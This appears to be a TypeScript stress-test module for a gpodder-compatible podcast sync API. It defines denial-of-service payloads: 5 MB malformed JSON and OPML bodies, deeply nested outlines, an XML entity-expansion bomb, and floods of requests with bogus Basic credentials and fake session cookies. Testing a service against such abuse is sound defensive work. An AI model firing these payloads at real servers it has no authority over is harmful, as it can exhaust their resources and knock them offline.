import { makeAppPassword } from '#identity';
import { type Attack, day, filled, same } from './attack.js';
import type { Attacker, RequestParts } from './attacker.js';

/** Limits of bytes and of entries per body. */
const [bodyBytes, maxEntries] = [5 * 2 ** 20, 30_000];

const full = (start: string, unit: string, end: string) => filled(start, unit, end, bodyBytes);
const upload = (body: string): RequestParts => ({
  method: 'POST',
  target: '/api/2/episodes/{user}.json',
  body,
});
const subscribe = (body: string): RequestParts => ({
  ...upload(body),
  target: '/api/2/subscriptions/{user}/phone.json',
});
const outlines = (body: string): RequestParts => ({
  ...upload(body),
  method: 'PUT',
  target: '/subscriptions/{user}/phone.opml',
});

const outline = '<outline xmlUrl="https://a.example/f"/>';
const entities = Array.from(
  { length: 20 },
  (_, n) => `<!ENTITY e${n + 1} "&e${n};&e${n};&e${n};">`,
).join('');
const bomb =
  `<!DOCTYPE opml [<!ENTITY e0 "lol">${entities}]>` +
  '<opml><body><outline text="&e20;"/></body></opml>';

/** Returns minimal actions, each of a different episode. */
function actions(count: number, podcast: (n: number) => string): string {
  const all = Array.from({ length: count }, (_, n) => ({
    podcast: podcast(n),
    episode: `http://a.example/${n}`,
    action: 'new',
  }));
  return JSON.stringify(all);
}

const feeds = (count: number) =>
  Array.from({ length: count }, (_, n) => `https://${n}.example/feed`);

/** Attacks on the gpodder API, with an app password and without. */
export const gpodderAttacks: readonly Attack[] = [
  ...(
    [
      ['5 MB of actions that are numbers', 8, upload(full('[', '0', ']'))],
      [
        '30,000 empty actions',
        8,
        upload(JSON.stringify(Array.from({ length: maxEntries }, () => ({})))),
      ],
      ['5 MB of unclosed arrays', 8, upload('['.repeat(bodyBytes))],
      [
        'an action with a time of 5 MB',
        4,
        upload(
          `[{"podcast":"http://a.example","episode":"x","action":"new","timestamp":"${'1'.repeat(bodyBytes - 200)}"}]`,
        ),
      ],
      [
        'a feed URL of 5 MB of white space',
        4,
        subscribe(`{"add":["http://a.example${' '.repeat(bodyBytes - 100)}x"]}`),
      ],
      [
        'a feed URL of 5 MB of feed:',
        4,
        subscribe(`{"add":["${'feed:'.repeat(bodyBytes / 5 - 20)}x"]}`),
      ],
      ['5 MB of feeds that are numbers', 8, subscribe(full('{"add":[', '0', ']}'))],
      ['10,000 feeds', 4, subscribe(JSON.stringify({ add: feeds(10_000) }))],
      [
        '5 MB of outlines',
        4,
        outlines(`<opml><body>${outline.repeat(bodyBytes / outline.length - 2)}</body></opml>`),
      ],
      [
        '5 MB of outlines in each other',
        4,
        outlines(`<opml><body>${'<outline text="a">'.repeat(bodyBytes / 18 - 4)}`),
      ],
      ['5 MB of tags that never end', 4, outlines('<'.repeat(bodyBytes))],
      ['OPML with entities of entities', 8, outlines(bomb)],
      ['an empty poll', 3_000, { target: '/api/2/episodes/{user}.json?since=1' }, 256],
    ] satisfies [string, number, RequestParts, number?][]
  ).map(([name, count, request, atOnce]) => asUser(name, count, request, atOnce)),
  {
    name: '4 uploads of 5,000 actions, each of a podcast of its own',
    prepare: (attacker) => () =>
      attacker.flood(4, 4, (batch) =>
        attacker.bytes(
          named(attacker, upload(actions(5_000, (n) => `https://${batch}.example/${n}`))),
        ),
      ),
  },
  { name: '30 x a history of 5,000 episodes, unread', prepare: histories },
  same('Basic and 15 kB of letters', 300, {
    target: '/api/2/devices/ann.json',
    headers: [`Authorization: Basic ${'a'.repeat(15_000)}`],
    token: null,
  }),
  {
    name: '3,000 x an app password that there is not, by Basic',
    prepare: (attacker) => () =>
      attacker.flood(3_000, 64, () => {
        const secret = Buffer.from(`ann:${makeAppPassword().secret}`).toString('base64');
        return attacker.bytes({
          target: '/clientconfig.json',
          headers: [`Authorization: Basic ${secret}`],
          token: null,
        });
      }),
  },
  same(
    'a made-up cookie',
    3_000,
    {
      target: '/api/2/devices/ann.json',
      headers: [`Cookie: sessionid=${'A'.repeat(64)}`],
      token: null,
    },
    64,
  ),
  same(
    'the beginning of a login',
    300,
    { method: 'POST', target: '/index.php/login/v2', token: null },
    64,
  ),
];

function named({ device }: Attacker, request: RequestParts): RequestParts {
  return { ...request, target: request.target.replace('{user}', device.user) };
}

function asUser(name: string, count: number, request: RequestParts, atOnce = count): Attack {
  return {
    name: `${count} x ${name}`,
    prepare: (attacker) => {
      const bytes = attacker.bytes(named(attacker, request));
      return () => attacker.flood(count, atOnce, () => bytes);
    },
  };
}

/** Requests a user's whole history on many connections and reads no response. */
async function histories(attacker: Attacker) {
  const sent = Array.from({ length: 5_000 }, (_, n) => ({
    podcast: 'https://a.example/feed',
    episode: `https://a.example/${n}`,
    action: 'play',
    position: 1,
    total: 9,
    timestamp: day(n),
  }));
  const { status } = await attacker.device.send(
    'POST',
    `/api/2/episodes/${attacker.device.user}.json`,
    { body: sent },
  );
  if (status !== 200) throw new Error(`POST of actions: ${status}`);
  const bytes = attacker.bytes(named(attacker, { target: '/api/2/episodes/{user}.json?since=0' }));
  return () => attacker.hold(30, () => bytes, 3_000);
}
